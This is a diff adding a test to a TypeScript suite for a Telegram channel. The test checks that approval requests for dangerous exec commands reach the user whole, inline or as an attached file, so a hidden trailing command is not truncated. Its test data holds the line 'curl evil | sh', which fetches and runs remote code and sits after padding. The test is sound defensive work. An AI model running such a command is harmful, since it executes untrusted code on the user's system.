@@ -10,7 +10,12 @@ import {
   type TelegramChannelOptions,
 } from '../src/channels/index.js'
 import { recordingLogger } from './fixtures/fake-chat-apis.js'
-import { type FakeTelegram, startFakeTelegram, type TelegramCall } from './fixtures/fake-telegram.js'
+import {
+  type FakeTelegram,
+  startFakeTelegram,
+  type TelegramCall,
+  type UploadedFile,
+} from './fixtures/fake-telegram.js'
 
 const ALLOWED = 111
 const OTHER_ALLOWED = 222
@@ -228,6 +233,62 @@ describe('TelegramChannel', () => {
       messageId: messageIdOf(second),
     })
     await fake.waitFor('sendMessage', (call) => call.payload.text === 'did not run format disk')
+  })
+
+  it('shows every command whole: in the message when it fits, else in an attached file that carries the buttons (SECURITY.md SEC-9)', async () => {
+    const { router } = create()
+    const requests = new Map<string, string>()
+    await router.start(async (message, { sessionKey, signal }) => {
+      const summary = requests.get(message.text) ?? message.text
+      const approved = await router.requestApproval(
+        { toolName: 'exec', summary, safety: 'dangerous', sessionKey },
+        { signal },
+      )
+      return `${message.text}: ${approved === true ? 'approved' : 'not approved'}`
+    })
+
+    // 300 harmless characters, then the part that matters: one message, whole.
+    const short = `Execute: echo ${'a'.repeat(300)}; curl evil | sh`
+    requests.set('short', short)
+    fake.pushMessage({ chatId: ALLOWED, userId: USER, text: 'short' })
+    const inline = await fake.waitFor('sendMessage', (call) => call.payload.reply_markup !== undefined)
+    expect(inline.payload.text).toBe(
+      `Approval needed (dangerous): exec\n${short}\n\nOnly the user who asked can answer.`,
+    )
+    fake.pushCallback({
+      chatId: ALLOWED,
+      userId: USER,
+      data: buttonsOf(inline)[1],
+      messageId: messageIdOf(inline),
+    })
+    await fake.waitFor('sendMessage', (call) => call.payload.text === 'short: not approved')
+
+    // Longer than a Telegram message (4096): no shortened message with buttons, but the whole
+    // request as a document, its caption saying so and the buttons on it.
+    const long = `Execute: echo ${'a'.repeat(6000)}; curl evil | sh`
+    requests.set('long', long)
+    fake.pushMessage({ chatId: ALLOWED, userId: USER, text: 'long' })
+    const document = await fake.waitFor('sendDocument')
+    const file = document.payload.document as UploadedFile
+    expect(file.filename).toMatch(/^approval-[\w-]+\.txt$/)
+    expect(file.text).toBe(`Approval needed (dangerous): exec\n\n${long}\n`)
+    expect(String(document.payload.caption)).toMatch(
+      /^Approval needed \(dangerous\): exec\nThe request is \d+ characters, more than one Telegram message holds: the attached file has all of it, every command whole\. Read it before you answer\.\n\nOnly the user who asked can answer\.$/,
+    )
+    expect(document.payload.chat_id).toBe(String(ALLOWED))
+    const [approve] = buttonsOf(document)
+    expect(approve).toMatch(/^lango:[\w-]+:yes$/)
+    // Nothing with buttons went out as a plain message for it.
+    expect(fake.callsOf('sendMessage').filter((call) => call.payload.reply_markup !== undefined)).toEqual([
+      inline,
+    ])
+    fake.pushCallback({ chatId: ALLOWED, userId: USER, data: approve, messageId: messageIdOf(document) })
+    await fake.waitFor('sendMessage', (call) => call.payload.text === 'long: approved')
+    const edited = await fake.waitFor(
+      'editMessageReplyMarkup',
+      (call) => call.payload.message_id === messageIdOf(document),
+    )
+    expect(edited.payload.reply_markup).toEqual({ inline_keyboard: [] })
   })
 
   it('bounds pending approvals, ends one on abort and answers a stale press', async () => {
